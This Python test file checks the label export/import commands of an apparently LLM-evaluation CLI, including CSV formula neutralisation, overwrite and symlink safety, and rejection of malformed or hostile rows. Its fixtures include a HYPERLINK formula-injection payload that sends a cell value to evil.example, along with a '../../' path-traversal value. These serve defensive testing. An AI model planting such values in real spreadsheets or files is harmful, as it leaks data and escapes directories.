"""``impactgate labels export`` / ``import``: the labelling loop from the command line.

The stored run is written directly (a grounding run would load the embedding model), with the
judge's verdicts in its samples as a real run stores them.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

from click.testing import CliRunner

from evals.store import ResultsStore, SampleRecord
from flows.cli.main import cli
from tests.helpers import CASES, make_project, store_run


def _stored_run(results: Path) -> None:
    samples = []
    for i, case in enumerate(CASES, start=1):
        support = i / 10  # c1 … c8: 0.1 … 0.8
        text = f"Refunds take {i} days. Write to jane.roe@mail.example."
        evidence = {
            "judge": "offline",
            "claims": [
                {
                    "text": text,
                    "probability": support,
                    "verdict": "supported" if support >= 0.5 else "unsupported",
                    "reasons": [f"support {support:.2f}"],
                }
            ],
        }
        samples.append(
            SampleRecord(
                run_id="r1",
                case_id=case["id"],
                metric="hallucination",
                value=float(support < 0.5),
                passed=support >= 0.5,
                explanation="",
                evidence=evidence,
                output=text,
                version="v2",
            )
        )
    store_run(results, samples)


def _write_csv(path: Path, rows: list[dict[str, str]]) -> None:
    """Save rows as a person does after filling in ``label``."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def test_export_label_import_and_import_again(tmp_path: Path) -> None:
    contract = make_project(tmp_path / "p")
    results = tmp_path / "results"
    _stored_run(results)
    out = tmp_path / "labels.csv"
    runner = CliRunner()
    args = ["--results", str(results), "--policies", str(contract.parent)]
    done = runner.invoke(
        cli, ["labels", "export", "tiny-agent", "--n", "6", "--out", str(out), *args]
    )
    assert done.exit_code == 0, done.output
    assert "6 grounding items of tiny-agent run r1 (3 the judge flags, 3 it passes)" in done.output
    with out.open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 6
    assert {r["label"] for r in rows} == {""}
    scores = [float(r["judge_score"]) for r in rows]
    assert scores == sorted(scores)
    assert min(scores) == 0.1
    assert max(scores) == 0.8
    assert all("jane.roe@mail.example" not in r["answer"] for r in rows), "masked like outputs"
    assert json.loads(rows[0]["claims"])[0]["reasons"] == ["support 0.10"]

    # A person labels them: the low-support answers are the unsupported ones.
    for row in rows:
        row["label"] = "1" if float(row["judge_score"]) < 0.5 else "0"
    _write_csv(out, rows)
    first = runner.invoke(cli, ["labels", "import", str(out), "--by", "ana", *args])
    assert first.exit_code == 0, first.output
    assert "tiny-agent: 6 new, 0 changed, 0 unchanged label(s)" in first.output
    stored = ResultsStore(results).labels("tiny-agent")
    assert [(r.labelled_by, r.label) for r in stored].count(("ana", 1)) == 3
    again = runner.invoke(cli, ["labels", "import", str(out), "--by", "ana", *args])
    assert "0 new, 0 changed, 6 unchanged label(s) — nothing to store" in again.output
    assert ResultsStore(results).labels("tiny-agent") == stored


def test_import_refuses_a_bad_file_with_every_row_named(tmp_path: Path) -> None:
    contract = make_project(tmp_path / "p")
    results = tmp_path / "results"
    _stored_run(results)
    out = tmp_path / "labels.jsonl"
    runner = CliRunner()
    args = ["--results", str(results), "--policies", str(contract.parent)]
    runner.invoke(cli, ["labels", "export", "tiny-agent", "--n", "4", "--out", str(out), *args])
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    rows[0]["label"] = 1
    rows[1]["label"] = "yes"
    rows[2]["case_id"] = "c99"
    rows[2]["id"] = rows[2]["id"].replace(":c", ":c99x", 1)
    rows[3]["label"] = 0
    rows.append({**rows[0], "label": 0})
    out.write_text("".join(json.dumps(r) + "\n" for r in rows))
    done = runner.invoke(cli, ["labels", "import", str(out), "--by", "ana", *args])
    assert done.exit_code == 2
    assert "labels.jsonl:2: label: must be 1" in done.output
    assert "labels.jsonl:3:" in done.output
    assert "labels.jsonl:5: label: says 0 but line 1 labels the same item 1" in done.output
    assert ResultsStore(results).labels("tiny-agent") == [], "nothing half-stored"


def test_export_without_a_run_says_what_to_do(tmp_path: Path) -> None:
    contract = make_project(tmp_path / "p")
    done = CliRunner().invoke(
        cli,
        [
            "labels", "export", "tiny-agent", "--out", str(tmp_path / "l.csv"),
            "--results", str(tmp_path / "none"), "--policies", str(contract.parent),
        ],
    )  # fmt: skip
    assert done.exit_code == 2
    assert "no run of tiny-agent" in done.output
    assert "impactgate run tiny-agent" in done.output


def test_policy_findings_export_both_flagged_and_clean_outputs(tmp_path: Path) -> None:
    contract = make_project(tmp_path / "p")
    results = tmp_path / "results"
    samples = [
        SampleRecord(
            run_id="r1",
            case_id=case["id"],
            metric="policy_violation",
            value=float(i % 2 == 0),
            passed=i % 2 != 0,
            explanation="",
            evidence={"violations": [{"rule": "pii.email"}]} if i % 2 == 0 else {"violations": []},
            output=f"answer {i}",
            version="v2",
        )
        for i, case in enumerate(CASES, start=1)
    ]
    store_run(results, samples)
    out = tmp_path / "policy.jsonl"
    args = ["--results", str(results), "--policies", str(contract.parent)]
    done = CliRunner().invoke(
        cli,
        [
            "labels",
            "export",
            "tiny-agent",
            "--kind",
            "policy",
            "--n",
            "4",
            "--out",
            str(out),
            *args,
        ],
    )
    assert done.exit_code == 0, done.output
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert [r["judge_flag"] for r in rows].count(1) == 2
    assert all(r["id"].startswith("policy:") for r in rows)
    assert [r["findings"] for r in rows if r["judge_flag"]] == [[{"rule": "pii.email"}]] * 2


def test_export_never_replaces_a_file_without_force(tmp_path: Path) -> None:
    contract = make_project(tmp_path / "p")
    results = tmp_path / "results"
    _stored_run(results)
    args = ["--results", str(results), "--policies", str(contract.parent)]
    runner = CliRunner()
    labelled = tmp_path / "labels.csv"
    labelled.write_text("id,label\nsomeone's work,1\n", encoding="utf-8")
    elsewhere = tmp_path / "elsewhere" / "notes.csv"
    dangling = tmp_path / "link.csv"
    dangling.symlink_to(elsewhere)
    for out in (labelled, dangling):
        done = runner.invoke(cli, ["labels", "export", "tiny-agent", "--out", str(out), *args])
        assert done.exit_code == 2, done.output
        assert "--out: already exists; choose another name, or add --force" in done.output
    assert labelled.read_text(encoding="utf-8") == "id,label\nsomeone's work,1\n"
    assert dangling.is_symlink()
    assert not elsewhere.parent.exists(), "nothing written through the link"

    forced = runner.invoke(
        cli,
        ["labels", "export", "tiny-agent", "--n", "4", "--out", str(dangling), "--force", *args],
    )
    assert forced.exit_code == 0, forced.output
    assert not dangling.is_symlink(), "the name given is replaced, never the link's target"
    assert not elsewhere.parent.exists()
    assert len(list(csv.DictReader(dangling.open(encoding="utf-8")))) == 4
    assert sorted(p.name for p in tmp_path.iterdir()) == ["labels.csv", "link.csv", "p", "results"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "'=already quoted",
    "plain answer",
    "Refunds take 5 days.",
]


def _formula_run(results: Path) -> None:
    store_run(
        results,
        [
            SampleRecord(
                run_id="r1", case_id=case["id"], metric="hallucination", value=float(i % 2),
                passed=i % 2 == 0, explanation="", output=text, version="v2",
                evidence={"judge": "offline", "claims": [{"text": text, "probability": i / 10}]},
            )
            for i, (case, text) in enumerate(zip(CASES, FORMULAS, strict=True), start=1)
        ],
    )  # fmt: skip


def test_csv_export_neutralises_formulas_and_import_reads_the_answers_back(
    tmp_path: Path,
) -> None:
    contract = make_project(tmp_path / "p")
    results = tmp_path / "results"
    _formula_run(results)
    args = ["--results", str(results), "--policies", str(contract.parent)]
    out = tmp_path / "labels.csv"
    runner = CliRunner()
    done = runner.invoke(
        cli, ["labels", "export", "tiny-agent", "--n", "8", "--out", str(out), *args]
    )
    assert done.exit_code == 0, done.output
    with out.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "no formula"
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {r["answer"] for r in rows} >= {"'+1+1", "'@SUM(A1:A9)", "''=already quoted"}
    for row in rows:
        row["label"] = "1"
    rows[0]["answer"] = rows[0]["answer"].removeprefix("'")  # as a spreadsheet saves it
    _write_csv(out, rows)
    done = runner.invoke(cli, ["labels", "import", str(out), "--by", "ana", *args])
    assert done.exit_code == 0, done.output
    assert "8 new" in done.output
    stored = ResultsStore(results).labels("tiny-agent")
    assert sorted(r.answer for r in stored) == sorted(FORMULAS), "read back as the run stored them"


def test_import_refuses_hostile_rows_each_named_and_stores_nothing(tmp_path: Path) -> None:
    contract = make_project(tmp_path / "p")
    results = tmp_path / "results"
    _stored_run(results)
    args = ["--results", str(results), "--policies", str(contract.parent)]
    out = tmp_path / "labels.jsonl"
    runner = CliRunner()
    runner.invoke(cli, ["labels", "export", "tiny-agent", "--n", "5", "--out", str(out), *args])
    rows = [{**json.loads(line), "label": 1} for line in out.read_text().splitlines()]
    rows[0]["agent"] = "../../outside/tiny-agent"
    rows[1]["judge_score"] = "=1+1"
    rows[2]["judge_score"] = [0.5]
    rows[3]["contexts"] = [1, {"passage": 2}]
    rows[4]["agent"] = "x" * 100_000
    out.write_text("".join(json.dumps(r) + "\n" for r in rows))
    done = runner.invoke(cli, ["labels", "import", str(out), "--by", "ana", *args])
    assert done.exit_code == 2, done.output
    assert done.exception is None or isinstance(done.exception, SystemExit), "no traceback"
    assert "labels.jsonl:1: agent: '../../outside/tiny-agent' is not an agent's name" in done.output
    assert "labels.jsonl:2: judge_score: must be the judge's score" in done.output
    assert "labels.jsonl:3: judge_score: must be the judge's score" in done.output
    assert "labels.jsonl:4: contexts: must be a list of passages" in done.output
    assert "labels.jsonl:5: agent: 'xxx" in done.output
    assert len(done.output) < 2_000, "an untrusted value is cut short in messages"
    assert not (tmp_path / "outside").exists()
    assert ResultsStore(results).labels("tiny-agent") == []


def test_import_refuses_a_huge_or_malformed_csv_without_a_traceback(tmp_path: Path) -> None:
    contract = make_project(tmp_path / "p")
    args = ["--results", str(tmp_path / "results"), "--policies", str(contract.parent)]
    runner = CliRunner()
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as handle:
        handle.truncate(65 * 2**20)  # sparse: no disk used
    done = runner.invoke(cli, ["labels", "import", str(huge), "--by", "ana", *args])
    assert done.exit_code == 2, done.output
    assert "huge.csv: file: is 65 MB; a label file is at most 64 MB" in done.output

    cell = tmp_path / "cell.csv"
    cell.write_text("id,agent,label\n" + "x" * 200_000 + ",tiny-agent,1\n", encoding="utf-8")
    done = runner.invoke(cli, ["labels", "import", str(cell), "--by", "ana", *args])
    assert done.exit_code == 2, done.output
    assert "cell.csv:2: id: 'xxx" in done.output
    assert len(done.output) < 1_000

    broken = tmp_path / "broken.csv"
    broken.write_text('id,label\n"unterminated,1\n', encoding="utf-8")
    done = runner.invoke(cli, ["labels", "import", str(broken), "--by", "ana", *args])
    assert done.exit_code == 2, done.output
    assert "broken.csv:" in done.output


def test_a_label_file_that_is_not_utf8_is_named_at_its_line(tmp_path: Path) -> None:
    contract = make_project(tmp_path / "p")
    args = ["--results", str(tmp_path / "results"), "--policies", str(contract.parent)]
    latin = tmp_path / "latin.csv"
    latin.write_bytes("id,note,label\na,fine,1\nb,caf\u00e9,0\n".encode("latin-1"))
    done = CliRunner().invoke(cli, ["labels", "import", str(latin), "--by", "ana", *args])
    assert done.exit_code == 2, done.output
    assert "latin.csv:3: row: not UTF-8 text (byte 6 of the line)" in done.output
